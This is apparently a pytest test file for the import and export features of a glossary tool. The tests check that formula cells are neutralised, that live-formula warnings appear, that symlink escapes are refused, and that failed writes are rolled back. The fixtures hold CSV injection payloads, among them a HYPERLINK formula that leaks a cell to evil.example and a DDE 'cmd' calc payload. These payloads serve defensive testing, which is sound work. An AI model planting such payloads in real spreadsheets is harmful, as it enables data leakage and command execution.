"""Export and import treat every glossary value and every source cell as hostile."""

from __future__ import annotations

import csv
import errno
import io
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shoptalk import load_glossary
from shoptalk.exchange import Defaults, glossary_csv, plan_import, read_source, writing
from shoptalk.exchange.sources import _field_starts

from .conftest import FIXTURES, Run

HOSTILE_TERM = """\
name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
abbreviation: '@SUM(A1)'
aliases: ['+cmd|'' /C calc''!A0', plain alias]
context: '-2+3'
definition: "\\tTab first, then text."
category: c
owner: "@sales-team"
"""
FIVE_DAYS = """\
name: Quote first
aliases: ["-5 days"]
context: "'=already quoted"
definition: "\\r=1+1"
category: c
owner: ae
"""


def _glossary(root: Path, **terms: str) -> Path:
    (root / "terms").mkdir(parents=True)
    (root / "categories.yml").write_text("- id: c\n  name: C\n", encoding="utf-8")
    for term_id, text in terms.items():
        (root / "terms" / f"{term_id}.yml").write_text(text, encoding="utf-8")
    return root


def test_csv_export_neutralises_every_formula_cell(tmp_path: Path) -> None:
    glossary, problems = load_glossary(_glossary(tmp_path / "g", hostile=HOSTILE_TERM,
                                                 quoted=FIVE_DAYS), tmp_path)
    # The loader refuses the carriage return and drops it; the '=' behind it is still caught.
    assert [p.rule for p in problems if p.severity == "error"] == ["control-character"]
    rows = list(csv.DictReader(io.StringIO(glossary_csv(glossary), newline="")))
    assert rows == [
        {"id": "hostile", "name": '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
         "abbreviation": "'@SUM(A1)", "aliases": "'+cmd|' /C calc'!A0; plain alias",
         "context": "'-2+3", "definition": "'\tTab first, then text.", "category": "c",
         "owner": "'@sales-team", "status": "approved"},
        # '-' is neutralised even before words; a quote already there gets one more.
        {"id": "quoted", "name": "Quote first", "abbreviation": "", "aliases": "'-5 days",
         "context": "''=already quoted", "definition": "'=1+1", "category": "c",
         "owner": "ae", "status": "approved"},
    ]


def test_csv_round_trip_takes_the_quotes_off(tmp_path: Path) -> None:
    glossary, _ = load_glossary(_glossary(tmp_path / "g", hostile=HOSTILE_TERM,
                                          quoted=FIVE_DAYS), tmp_path)
    exported = tmp_path / "export.csv"
    exported.write_text(glossary_csv(glossary), encoding="utf-8", newline="")
    empty, _ = load_glossary(_glossary(tmp_path / "target"), tmp_path)
    plan = plan_import(read_source(exported, "export.csv"), empty, Defaults("c", "ae"), tmp_path)
    assert plan.problems == []  # our own quotes are no formula warning
    for item in plan.planned:
        item.path.write_text(item.text, encoding="utf-8")
    again, _ = load_glossary(tmp_path / "target", tmp_path)
    assert glossary_csv(again) == glossary_csv(glossary)
    assert again.terms["hostile"].context == "-2+3"
    assert again.terms["quoted"].context == "'=already quoted"


def test_import_warns_about_live_formulas_at_their_cell(project: Path, run: Run,
                                                        tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "Term,Definition,Synonyms\n"
        'Champion,"=HYPERLINK(""https://evil.example"",""Click"")",@SUM(1+1)\n'
        "Pipeline,'=Kept as text,\n"
        '"Multi\nline",-2+3 deals,+x\n', encoding="utf-8")
    code, out, _ = run("import", str(source), "--category", "buyers", "--owner", "ae",
                       "--dry-run")
    assert code == 0  # a warning: the text is imported as text
    assert [line.partition("in.csv:")[2] for line in out.splitlines() if "in.csv:" in line] == [
        "2:10: warning: '=HYPERLINK(\"https://evil.example\",\"Clic…' starts with '=', so a "
        "spreadsheet would run it as a formula; it is imported as plain text. Check it is the "
        "text you meant, and start the cell with ' to mark it as text [import-formula]",
        "2:59: warning: '@SUM(1+1)' starts with '@', so a spreadsheet would run it as a formula; "
        "it is imported as plain text. Check it is the text you meant, and start the cell "
        "with ' to mark it as text [import-formula]",
        "5:7: warning: '-2+3 deals' starts with '-', so a spreadsheet would run it as a "
        "formula; it is imported as plain text. Check it is the text you meant, and start the "
        "cell with ' to mark it as text [import-formula]",
        "5:18: warning: '+x' starts with '+', so a spreadsheet would run it as a formula; it is "
        "imported as plain text. Check it is the text you meant, and start the cell with ' to "
        "mark it as text [import-formula]",
    ]


@settings(max_examples=60, deadline=None)
@given(rows=st.lists(st.lists(st.text(alphabet='ab ,;"\'\n\r=', max_size=6), min_size=1,
                              max_size=4), min_size=1, max_size=4))
def test_cell_positions_agree_with_the_csv_reader(rows: list[list[str]]) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerows(rows)
    text = out.getvalue()
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    starts = _field_starts(text, ",")
    reader = csv.reader(io.StringIO(text, newline=""))
    start = 1
    for cells in reader:
        assert len(starts[start]) == len(cells)
        for (line, col), cell in zip(starts[start], cells, strict=True):
            at = "\n".join(lines[line - 1:])[col - 1:]
            assert at.startswith(cell.split("\r")[0].split("\n")[0]) or at.startswith('"')
        start = reader.line_num + 1


SEMICOLONS = FIXTURES / "semicolons.csv"
IMPORT = ("import", str(SEMICOLONS), "--category", "buyers", "--owner", "ae")


def _terms(project: Path) -> list[str]:
    return sorted(p.name for p in (project / "glossary/terms").iterdir())


def _as_real_run(dry_run_output: str) -> str:
    """Dry-run output in a real run's words: the only words allowed to differ."""
    return (dry_run_output.replace("would write ", "wrote ").replace(" to import,", " imported,")
            .replace("nothing would be imported", "nothing imported"))


def test_a_broken_file_in_the_way_stops_the_whole_import(project: Path, run: Run) -> None:
    broken = project / "glossary/terms/paper-process.yml"
    broken.write_text("name: Paper process\ndefinition: [unclosed\n", encoding="utf-8")
    before = _terms(project)

    dry = run(*IMPORT, "--dry-run")
    code, out, err = run(*IMPORT)

    assert (code, err) == (1, "")
    assert _terms(project) == before  # the first row is not written either
    src = SEMICOLONS.as_posix()
    assert [line.replace(src, "SRC") for line in out.splitlines()] == [
        "nothing imported: 1 row not taken; fix the errors below and run again (1 other term "
        "ready)",
        "SRC:3:1: error: 'Paper process' would be term 'paper-process', but "
        "glossary/terms/paper-process.yml is already there and does not load (its problems are "
        "listed); fix or remove that file, then import again [import-target]",
        "glossary/terms/paper-process.yml:3:1: error: while parsing a flow sequence: did not "
        "find expected ',' or ']' — a [list] is not closed, or one of its items holds a comma, "
        "colon or '?'; put that item in quotes [yaml-syntax]",
        "2 errors, 0 warnings in 2 files",
    ]
    assert (dry[0], _as_real_run(dry[1]), dry[2]) == (code, out, err)


def test_dry_run_lists_exactly_what_a_real_run_writes(project: Path, run: Run) -> None:
    before = set(_terms(project))
    dry = run(*IMPORT, "--dry-run")
    assert set(_terms(project)) == before
    real = run(*IMPORT)
    assert (dry[0], _as_real_run(dry[1]), dry[2]) == real
    written = {line.split()[1] for line in real[1].splitlines() if line.startswith("wrote ")}
    assert written == {f"glossary/terms/{name}" for name in set(_terms(project)) - before} == {
        "glossary/terms/mutual-action-plan.yml", "glossary/terms/paper-process.yml"}


def test_a_link_in_the_way_is_reported_not_followed(project: Path, run: Run,
                                                    tmp_path: Path) -> None:
    (project / "glossary/terms/paper-process.yml").symlink_to(tmp_path / "elsewhere.yml")
    code, out, _ = run(*IMPORT)
    assert code == 1
    assert "3:1: error: 'Paper process' would be term 'paper-process', but " \
           "glossary/terms/paper-process.yml is already there; edit that file instead, or " \
           "remove it and import again [import-target]" in out
    assert not (tmp_path / "elsewhere.yml").exists()
    assert not (project / "glossary/terms/mutual-action-plan.yml").exists()


def test_a_terms_folder_leading_outside_is_refused(project: Path, run: Run,
                                                   tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (project / "glossary/terms").rename(outside)
    (project / "glossary/terms").symlink_to(outside, target_is_directory=True)
    before = sorted(p.name for p in outside.iterdir())
    code, out, _ = run(*IMPORT)
    assert code == 1
    assert "error: 'Mutual Action Plan' would be written to glossary/terms, which leads " \
           "outside the glossary folder (a link); make it an ordinary folder [import-target]" in out
    assert sorted(p.name for p in outside.iterdir()) == before


def test_an_id_with_a_trailing_newline_is_no_id(project: Path, run: Run,
                                                tmp_path: Path) -> None:
    source = tmp_path / "in.json"
    source.write_text('{"terms": [{"id": "evil\\n", "name": "Evil", "definition": "Bad."}]}',
                      encoding="utf-8")
    before = _terms(project)
    code, out, _ = run("import", str(source), "--category", "buyers", "--owner", "ae")
    assert code == 1
    # The line break is shown escaped: problems never print raw control characters.
    assert "in.json:1:1: error: cannot make a valid id for 'Evil' (got 'evil\\x0a'); add an " \
           "'id' column" in out
    assert _terms(project) == before


def test_a_failed_write_takes_back_the_files_already_placed(
        project: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    before = sorted((project / "glossary").rglob("*"))
    real_replace = os.replace
    calls: list[str] = []

    def replace_then_fail(src: Any, dst: Any) -> None:
        calls.append(str(dst))
        if len(calls) == 2:
            raise OSError(errno.ENOSPC, "No space left on device", str(dst))
        real_replace(src, dst)

    monkeypatch.setattr(writing.os, "replace", replace_then_fail)
    code, out, err = run(*IMPORT)
    assert len(calls) == 2 and code == 2 and out == ""
    assert err.startswith("shoptalk: error: cannot write ")
    assert err.endswith("paper-process.yml: No space left on device; nothing was written\n")
    assert sorted((project / "glossary").rglob("*")) == before  # no term, no temporary file
